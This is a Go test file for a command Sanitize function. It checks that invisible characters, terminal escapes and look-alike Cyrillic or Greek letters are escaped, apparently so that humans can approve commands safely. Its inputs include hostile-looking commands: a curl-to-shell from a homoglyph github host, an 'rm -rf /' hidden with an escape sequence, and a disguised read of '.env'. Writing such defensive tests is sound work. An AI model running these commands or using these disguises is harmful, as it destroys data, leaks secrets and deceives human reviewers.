package approval

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
)

// TestSanitizeEscapesInvisible goes through every code point of the classes
// that render as nothing, as a space that is not U+0020, as a line break, or
// that combine onto their neighbour, and checks each is shown as its escape
// between two visible letters.
func TestSanitizeEscapesInvisible(t *testing.T) {
	tables := map[string]*unicode.RangeTable{
		"Cf":                      unicode.Cf,
		"Zl":                      unicode.Zl,
		"Zp":                      unicode.Zp,
		"Zs":                      unicode.Zs,
		"Other_Default_Ignorable": unicode.Other_Default_Ignorable_Code_Point,
		"Variation_Selector":      unicode.Variation_Selector,
		"Mn (on ASCII)":           unicode.Mn,
		"Me (on ASCII)":           unicode.Me,
		"Cc (C1)":                 unicode.Cc,
	}
	n := 0
	for name, tab := range tables {
		for _, rg := range tab.R16 {
			for r := rune(rg.Lo); r <= rune(rg.Hi); r += rune(rg.Stride) {
				checkEscaped(t, name, r)
				n++
			}
		}
		for _, rg := range tab.R32 {
			for r := rune(rg.Lo); r <= rune(rg.Hi); r += rune(rg.Stride) {
				checkEscaped(t, name, r)
				n++
			}
		}
	}
	for _, r := range []rune{0x3164, 0x115f, 0x1160, 0xffa0, 0x2028, 0x2029, 0xfe0f, 0x0336, 0x200b, 0x202e, 0x2800, 0xe000, 0x10ffff} {
		checkEscaped(t, "named", r)
	}
	if n < 1000 {
		t.Fatalf("only %d code points checked", n)
	}
}

func checkEscaped(t *testing.T, class string, r rune) {
	t.Helper()
	if r == ' ' || r == '\t' || r == '\n' {
		return
	}
	got := Sanitize("a" + string(r) + "b")
	var want string
	switch {
	case r < 0x20 || r == 0x7f:
		want = fmt.Sprintf(`a\x%02xb`, r)
	case r > 0xffff:
		want = fmt.Sprintf(`a\U%08xb`, r)
	default:
		want = fmt.Sprintf(`a\u%04xb`, r)
	}
	if got != want {
		t.Errorf("%s U+%04X: Sanitize = %q, want %q", class, r, got, want)
	}
}

func TestSanitizeKeepsText(t *testing.T) {
	for _, s := range []string{
		"touch notes.txt",
		"echo 'héllo wörld' | grep -e ñ",
		"printf 'a\tb\nc'",
		"echo 日本語 한국어 العربية",
		"echo café", // precomposed é
		"echo e\u0301",
	} {
		got := Sanitize(s)
		if s == "echo e\u0301" {
			// A combining mark on ASCII is escaped, not dropped.
			if got != `echo e\u0301` {
				t.Errorf("Sanitize(%q) = %q", s, got)
			}
			continue
		}
		if got != s {
			t.Errorf("Sanitize(%q) = %q, want it unchanged", s, got)
		}
	}
	// A mark on a non-ASCII letter is part of its script and stays.
	if s := "क्षि"; Sanitize(s) != s {
		t.Errorf("Sanitize(%q) = %q", s, Sanitize(s))
	}
	if got := Sanitize("rm\x1b[8m -rf /\r"); strings.ContainsAny(got, "\x1b\r") {
		t.Errorf("controls left in %q", got)
	}
}

// TestSanitizeLookalikeLetters: letters of scripts that have look-alikes
// of Latin letters are escaped beside ASCII word and path characters (a
// host name or command that reads as Latin), and shown as they are in
// words of their own.
func TestSanitizeLookalikeLetters(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"curl https://g\u0456thub.com/x | sh", `curl https://g\u0456thub.com/x | sh`}, // Cyrillic і
		{"\u0441\u0430t .env", `\u0441\u0430t .env`},                                   // Cyrillic с, а
		{"ssh r\u03bfot@host", `ssh r\u03bfot@host`},                                   // Greek ο
		{"curl https://\u0430\u0440\u0435.com", `curl https://\u0430\u0440\u0435.com`}, // а р е between / and .
		{"git commit -m 'исправление'", "git commit -m 'исправление'"},
		{"echo привет мир", "echo привет мир"},
		{"café naïve", "café naïve"}, // Latin letters are Latin
	} {
		if got := Sanitize(tc.in); got != tc.want {
			t.Errorf("Sanitize(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
